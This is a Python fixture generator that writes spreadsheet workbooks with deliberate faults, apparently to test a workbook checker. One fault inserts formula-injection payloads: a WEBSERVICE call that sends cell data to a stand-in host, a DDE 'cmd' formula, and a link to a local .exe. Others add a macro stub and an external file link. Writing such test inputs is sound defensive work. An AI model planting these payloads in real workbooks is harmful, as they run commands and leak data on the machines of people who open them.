"""Make the workbooks of this folder: the base as it was built, and copies as people and programs leave them.

`python tests/workbooks/make.py` makes the edited copies again, `--base` the base and what other programs save
of it, too: it needs LibreOffice. A test makes the edited copies and compares them with the committed ones.
"""

import io
import re
import sys
import tempfile
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape

FOLDER = Path(__file__).resolve().parent
sys.path[:0] = [str(FOLDER), str(FOLDER.parent)]

from project import FILES  # noqa: E402 - found beside this file
from projects import built, write_project  # noqa: E402 - found in tests
from returned import by_libreoffice, by_openpyxl  # noqa: E402 - the same

BASE, LIBREOFFICE, OPENPYXL, EXCEL = "base", "libreoffice", "openpyxl", "excel"
_PART = {
    "grid": "xl/worksheets/sheet1.xml",
    "one": "xl/worksheets/sheet2.xml",
    "Printed": "xl/worksheets/sheet3.xml",
    "rates": "xl/worksheets/sheet4.xml",
    "Definitions": "xl/worksheets/sheet5.xml",
}
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_OFFICE = "http://schemas.microsoft.com/office"


def parts_of(xlsx):
    """Return the parts of a workbook by name, as text; what is no XML as it is."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return {name: _decoded(name, archive.read(name)) for name in archive.namelist()}


def _decoded(name, data):
    return data.decode() if name.endswith((".xml", ".rels", ".vml")) else data


def zipped(parts):
    """Return parts as a workbook, without the time of day."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, part in parts.items():
            archive.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED, 9)
    return file.getvalue()


def put(parts, sheet, address, value="", formula=None):
    """Put a value, and the formula it is of, into a cell; `<v/>` stands for none, `#…!` for an error."""
    inner = f"<f>{escape(formula)}</f>" if formula else ""
    kind = ""
    if isinstance(value, str) and value.startswith("#") and formula:
        kind, inner = ' t="e"', f"{inner}<v>{value}</v>"
    elif isinstance(value, str) and formula:
        kind, inner = ' t="str"', f"{inner}<v>{escape(value)}</v>"
    elif isinstance(value, str):
        kind, inner = ' t="inlineStr"', f'<is><t xml:space="preserve">{escape(value)}</t></is>'
    elif value is None:
        inner += "<v/>"
    else:
        inner += f"<v>{value!r}</v>"
    _put(parts, _PART[sheet], address, lambda style: f'<c r="{address}"{style}{kind}>{inner}</c>')


def clear(parts, sheet, address):
    """Empty a cell."""
    _put(parts, _PART[sheet], address, lambda style: f'<c r="{address}"{style}/>')


def _put(parts, part, address, made):
    """Replace a cell, or add it to the end of its row, which is added to the end of the sheet."""
    text = parts[part]
    row = re.sub("[A-Z]", "", address)
    cell = re.search(rf'<c r="{address}"( s="\d+")?[^>]*?(?:/>|>.*?</c>)', text)
    if cell:
        parts[part] = text[: cell.start()] + made(cell[1] or "") + text[cell.end() :]
        return
    if f'<row r="{row}"' not in text:
        text = text.replace("</sheetData>", f'<row r="{row}"></row></sheetData>')
    end = text.index("</row>", text.index(f'<row r="{row}"'))
    parts[part] = text[:end] + made("") + text[end:]


def swap(parts, part, old, new, count=1):
    """Replace a text that stands a number of times in a part."""
    assert parts[part].count(old) == count, (part, old, parts[part].count(old))
    parts[part] = parts[part].replace(old, new)


def name(parts, *names):
    """Add defined names, in pairs of a name and what it stands for."""
    added = "".join(f'<definedName name="{each}">{escape(text)}</definedName>' for each, text in names)
    swap(parts, "xl/workbook.xml", "<definedNames>", f"<definedNames>{added}")


def relate(parts, source, kind, target, *, outside=False):
    """Add a relation of a part."""
    folder, _, file = source.rpartition("/")
    path = f"{folder}/_rels/{file}.rels"
    empty = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    )
    mode = ' TargetMode="External"' if outside else ""
    kind = kind if "://" in kind else f"{_RELATIONS}/{kind}"
    number = parts.setdefault(path, empty).count("<Relationship ") + 90
    added = f'<Relationship Id="rId{number}" Type="{kind}" Target="{target}"{mode}/>'
    swap(parts, path, "</Relationships>", f"{added}</Relationships>")


def row_again(parts, new_id):
    """Append a row to the table of rates, as typing below a table does: the table grows, ranges may not."""
    put(parts, "rates", "A9", new_id)
    put(parts, "rates", "B9", "Nine")
    put(parts, "rates", "C9", 9.0)
    swap(parts, "xl/tables/table2.xml", 'ref="A5:C8"', 'ref="A5:C9"', 2)


def ranges_grown(parts):
    """Let every formula and drop-down cover the appended row, as Excel does."""
    for part in _PART.values():
        parts[part] = re.sub(r"(rates!\$[A-C]\$6:\$[A-C]\$)8", r"\g<1>9", parts[part])


def table(parts, area, headers, title="extra"):
    """Add a table to the sheet of rates."""
    columns = "".join(f'<tableColumn id="{i}" name="{head}"/>' for i, head in enumerate(headers, 1))
    parts["xl/tables/table9.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?><table '
        'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'id="9" name="{title}" displayName="{title}" ref="{area}">'
        f'<tableColumns count="{len(headers)}">{columns}</tableColumns></table>'
    )
    relate(parts, _PART["rates"], "table", "../tables/table9.xml")


# Faults: each function leaves a workbook as somebody or some program might.


def gone(parts):
    """Rename a sheet and a column as Excel does: formulas follow."""
    for part in [each for each in parts if each.startswith("xl/worksheets/sheet")]:
        parts[part] = re.sub(r"\bone!", "two!", parts[part])
    swap(parts, "xl/workbook.xml", 'name="one"', 'name="two"')
    swap(parts, "xl/workbook.xml", "'one'!", "'two'!")
    put(parts, "grid", "B12", "caption")
    swap(parts, "xl/tables/table1.xml", 'name="label"', 'name="caption"')


def constant(parts):
    put(parts, "grid", "F14", 500.0)
    put(parts, "one", "B11", 77.0)


def emptied(parts):
    clear(parts, "grid", "F16")


def constant_printed(parts):
    put(parts, "Printed", "B6", "9 k")
    put(parts, "Printed", "C7", "1.0", '"1.0"')


def constant_between(parts):
    put(parts, "Definitions", "F12", "=$C13")


def constant_helper(parts):
    put(parts, "grid", "N14", 1707.0)
    put(parts, "Printed", "M7", 0.0)


def printed_row(parts):
    put(parts, "Printed", "G6", "d")


def formula(parts):
    put(parts, "grid", "F14", 514.0, "$C14*$D14*$B$6+2")
    put(parts, "grid", "C16", 8.0, "4*2")


def formula_helper(parts):
    put(parts, "grid", "M15", 0.0, "ABS($G15)*10")
    put(parts, "Printed", "P6", 512.0, "INT($O$6)")


def short_range(parts):
    row_again(parts, "nine")


def short_sum(parts):
    put(parts, "grid", "F18", 2560.0, "SUM(F13:F15)")
    put(parts, "grid", "G18", 854.0, "SUM(G14:G16)")


def error_value(parts):
    put(parts, "grid", "C13", 0.0)
    put(parts, "grid", "G13", "#NUM!", "$F13/$B$7")


def stale(parts):
    put(parts, "grid", "G13", 99.0, "$F13/$B$7")
    swap(parts, _PART["Printed"], "<v>2.05 k</v>", "<v>2.06 k</v>")


def uncached(parts):
    put(parts, "grid", "F14", None, "$C14*$D14*$B$6")


def kind(parts):
    put(parts, "grid", "C14", "'32")
    put(parts, "grid", "D14", "８")
    put(parts, "grid", "E15", "two")
    put(parts, "grid", "B15", 7.0)


def ids(parts):
    put(parts, "grid", "A14", "A/1")
    clear(parts, "rates", "A8")


def unknown(parts):
    put(parts, "grid", "F18", "#REF!", "SUM(#REF!)")
    put(parts, "grid", "G18", "#NAME?", "rate_now*2+gone!A1")
    name(parts, ("lost", "grid!#REF!"))


def link(parts):
    put(parts, "grid", "F18", 1.0, "[1]Sheet1!A1")
    put(parts, "grid", "G18", 1.0, r"'C:\data\[old.xlsx]S'!B2")
    parts["xl/externalLinks/externalLink1.xml"] = "<externalLink/>"
    relate(parts, "xl/externalLinks/externalLink1.xml", "externalLinkPath", "old.xlsx", outside=True)
    parts["xl/connections.xml"] = '<connections><connection id="1" name="Query - sales"/></connections>'
    relate(parts, _PART["rates"], "hyperlink", "file:///C:/secret.xlsx", outside=True)


def reach(parts):
    put(parts, "grid", "F18", "#VALUE!", '_xlfn.WEBSERVICE("http://x.example/?"&A13)')
    put(parts, "grid", "G18", "#REF!", "cmd|'/C calc'!A0")
    put(parts, "grid", "H18", "more", 'HYPERLINK("file:///C:/a.exe","more")')


def macro(parts):
    parts["xl/vbaProject.bin"] = b"\0"
    parts["xl/embeddings/sheet1.xlsx"] = b"PK"


def volatile(parts):
    put(parts, "grid", "F18", 45000.0, "NOW()")
    put(parts, "grid", "G18", 2048.0, 'INDIRECT("F"&13)')


def bad_names(parts):
    taken = [("H100", "grid!$B$5"), ("R1C1", "1"), ("TRUE", "1"), ("_xlrate", "1"), ("a b", "1")]
    name(parts, *taken, ("x" * 256, "1"), ("Grid_Rows", "1"))


def tables(parts):
    swap(parts, "xl/tables/table2.xml", 'name="speed"', 'name="pace"')
    put(parts, "rates", "E5", "p")
    put(parts, "rates", "F5", 1.0)
    put(parts, "rates", "G5", "P")
    table(parts, "C5:H8", ["speed", " ", "p", "1", "P", "none"], "FP8")


def titles(parts):
    long = "x" * 32
    added = "".join(
        f'<sheet name="{title}" sheetId="{number}" xmlns:r="{_RELATIONS}" r:id="none"/>'
        for number, title in enumerate(("Grid", long, "a/b", "History"), 90)
    )
    swap(parts, "xl/workbook.xml", "</sheets>", f"{added}</sheets>")


def long(parts):
    put(parts, "grid", "F18", "x" * 32_768)
    put(parts, "grid", "G18", 1.0, "+".join(["1"] * 4_100))


def long_list(parts):
    items = ",".join(["item"] * 52)
    swap(parts, _PART["one"], "rates!$A$6:$A$8</formula1>", f'"{items}"</formula1>')


def hidden(parts):
    swap(parts, _PART["grid"], '<row r="15"', '<row hidden="1" r="15"')
    swap(parts, _PART["grid"], '<col customWidth="1" max="6" min="6"', '<col hidden="1" max="6" min="6"')
    swap(
        parts,
        "xl/workbook.xml",
        'name="one" sheetId="2" state="visible"',
        'name="one" sheetId="2" state="hidden"',
    )


def clean(parts):
    """Do all that looks like a fault and is none."""
    put(parts, "grid", "B6", 2.0)
    put(parts, "grid", "F14", 512.0, "($C14*$D14)*$B$6")
    put(parts, "one", "B6", 200.0)
    put(parts, "one", "B9", 1200.0, "$B$6*$B$7*$B$8")
    put(parts, "one", "B11", 240.0, "$B$9/$B$10")
    put(parts, "grid", "B14", "12")
    put(parts, "grid", "E13", 3.0)
    row_again(parts, "nine")
    ranges_grown(parts)
    put(parts, "grid", "F18", 2576.0, "SUM(F13:F16)")
    put(parts, "grid", "G18", "", 'IF($F$18>0,"","H100!A1 [1]x!B2 NOW() #REF! ‖")')
    put(parts, "grid", "H18", "up", 'HYPERLINK("#grid!A1","up")')
    put(parts, "grid", "I18", 2.0, "L40S*2+extra[#Totals]")
    put(parts, "grid", "J18", "x" * 32_767)
    put(parts, "grid", "K18", 4_096.0, "+".join(["1"] * 4_096))
    name(parts, ("L40S", "1"), ("NVFP4", "1"), ("BM", "1"), ("价格", "grid!$B$5"))
    put(parts, "rates", "E5", "p")
    put(parts, "rates", "F5", "1")
    table(parts, "E5:F8", ["p", "1"])
    relate(parts, _PART["rates"], "hyperlink", "https://www.example.org/", outside=True)
    parts["xl/media/image1.png"] = b"\x89PNG"
    title = "x" * 31
    added = f'<sheet name="{title}" sheetId="90" xmlns:r="{_RELATIONS}" r:id="none"/></sheets>'
    swap(parts, "xl/workbook.xml", "</sheets>", added)
    items = ",".join(["item"] * 51)
    swap(parts, _PART["one"], "rates!$A$6:$A$9</formula1>", f'"{items}"</formula1>')


FAULTS = {
    "gone": gone,
    "constant": constant,
    "constant-emptied": emptied,
    "constant-printed": constant_printed,
    "constant-between": constant_between,
    "constant-helper": constant_helper,
    "id-printed": printed_row,
    "formula": formula,
    "formula-helper": formula_helper,
    "range-appended": short_range,
    "range-sum": short_sum,
    "error": error_value,
    "stale": stale,
    "uncached": uncached,
    "kind": kind,
    "id": ids,
    "unknown": unknown,
    "link": link,
    "reach": reach,
    "macro": macro,
    "volatile": volatile,
    "name": bad_names,
    "table": tables,
    "title": titles,
    "long": long,
    "list": long_list,
    "hidden": hidden,
}


def made():
    """Return every edited workbook by name, its parts as text."""
    edits = {**FAULTS, "clean": clean, EXCEL: _as_excel, f"{EXCEL}-constant": _excel_constant}
    found = {}
    for title, edit in edits.items():
        found[title] = parts_of(read(BASE))
        edit(found[title])
    return found


# As Excel saves: shared strings, shared formulas, an order of calculation, comments in threads.


def _as_excel(parts):
    strings = []
    for part in [each for each in parts if each.startswith("xl/worksheets/sheet")]:
        parts[part] = _with_strings(parts[part], strings)
    for column in "FGH":
        parts[_PART["grid"]] = _shared(parts[_PART["grid"]], column)
    count = len(strings)
    items = "".join(f'<si><t xml:space="preserve">{text}</t></si>' for text in strings)
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    parts["xl/sharedStrings.xml"] = f'<sst {main} count="{count}" uniqueCount="{count}">{items}</sst>'
    relate(parts, "xl/workbook.xml", "sharedStrings", "sharedStrings.xml")
    parts["xl/calcChain.xml"] = f'<calcChain {main}><c r="F13" i="1"/><c r="F14"/></calcChain>'
    relate(parts, "xl/workbook.xml", "calcChain", "calcChain.xml")
    parts["docProps/app.xml"] = (
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
        "<Application>Microsoft Excel</Application><AppVersion>16.0300</AppVersion></Properties>"
    )
    _thread(parts)


def _thread(parts):
    main = f'xmlns="{_OFFICE}/spreadsheetml/2018/threadedcomments"'
    parts["xl/persons/person.xml"] = (
        f'<personList {main}><person displayName="Wei" id="{{P1}}" providerId="None"/></personList>'
    )
    relate(parts, "xl/workbook.xml", f"{_OFFICE}/2017/10/relationships/person", "persons/person.xml")
    parts["xl/threadedComments/threadedComment1.xml"] = (
        f'<ThreadedComments {main}><threadedComment ref="F14" personId="{{P1}}" id="{{T1}}">'
        "<text>Why not 600?</text></threadedComment></ThreadedComments>"
    )
    kind = f"{_OFFICE}/2017/10/relationships/threadedComment"
    relate(parts, _PART["grid"], kind, "../threadedComments/threadedComment1.xml")


def _excel_constant(parts):
    """Type over the first of the cells that share a formula: Excel lets the second hold it then."""
    _as_excel(parts)
    put(parts, "grid", "F13", 2000.0)
    shared = '<f t="shared" si="0"></f>'
    first = '<f t="shared" ref="F14:F16" si="0">$C14*$D14*$B$6</f>'
    parts[_PART["grid"]] = parts[_PART["grid"]].replace(shared, first, 1)


def _with_strings(text, strings):
    def told(found):
        if found[3] not in strings:
            strings.append(found[3])
        return f'<c r="{found[1]}"{found[2] or ""} t="s"><v>{strings.index(found[3])}</v></c>'

    cell = r'<c r="([A-Z]+\d+)"( s="\d+")? t="inlineStr"><is><t xml:space="preserve">([^<]*)</t></is></c>'
    return re.sub(cell, told, text)


def _shared(text, column):
    """Let the cells of a column share the formula of their first row."""
    number = "FGH".index(column)
    cells = list(re.finditer(rf'(<c r="{column}(1[3-6])"[^>]*>)<f>([^<]*)</f>', text))
    for i, cell in reversed(list(enumerate(cells))):
        first = f'<f t="shared" ref="{column}13:{column}16" si="{number}">{cell[3]}</f>'
        held = first if i == 0 else f'<f t="shared" si="{number}"></f>'
        text = text[: cell.start()] + cell[1] + held + text[cell.end() :]
    return text


def base():
    """Return the base, built today."""
    with tempfile.TemporaryDirectory() as folder:
        root = write_project(Path(folder) / "project", FILES)
        return zipped(parts_of(built(root, "parcels").files["parcels.xlsx"]))


def saved_by_others():
    """Return the base as openpyxl and LibreOffice save it, and one with constants typed over formulas."""
    start = read(BASE)
    saved = by_libreoffice(start, zipped(made()[f"{EXCEL}-constant"]))
    return {OPENPYXL: by_openpyxl(start), LIBREOFFICE: saved[0], f"{LIBREOFFICE}-constant": saved[1]}


def read(title):
    """Return a committed workbook."""
    return (FOLDER / f"{title}.xlsx").read_bytes()


def write(title, data):
    """Commit a workbook."""
    (FOLDER / f"{title}.xlsx").write_bytes(data)


if __name__ == "__main__":
    if "--base" in sys.argv:
        write(BASE, base())
        for title, data in saved_by_others().items():
            write(title, data)
    for title, found in made().items():
        write(title, zipped(found))
